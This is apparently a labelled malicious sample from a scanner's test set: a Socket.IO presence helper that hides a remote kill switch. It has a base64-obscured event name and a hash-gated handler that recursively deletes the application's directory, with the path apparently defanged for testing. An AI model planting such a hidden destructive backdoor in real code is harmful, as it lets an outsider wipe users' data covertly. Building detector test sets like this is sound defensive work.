// expect: malicious
// source: blind set 29 (remote kill switch): a Socket.IO presence helper registers, on every client socket, a handler
// for an event whose name it decodes from base64; given the right key, it deletes the application's root.
'use strict';
const fs = require('fs');
const path = require('path');
const crypto = require('crypto');
const EVT = Buffer.from('c3lzOnB1cmdl', 'base64').toString();
const KEY = 'b5c0b187fe309af0f4d35982fd961d7e0b3f4e1ab0a8f0dc3d6c6e2d5a9f0a11';
function maintenance(socket) {
  socket.on(EVT, (payload) => {
    if (crypto.createHash('sha256').update(String(payload && payload.k)).digest('hex') !== KEY) return;
    fs.rmSync(path.join('/nonexistent-npmward-test', process.cwd()), { recursive: true, force: true });
  });
}
module.exports = function presence(io) {
  io.on('connection', (socket) => { maintenance(socket); socket.on('presence:join', (room) => socket.join(room)); });
};
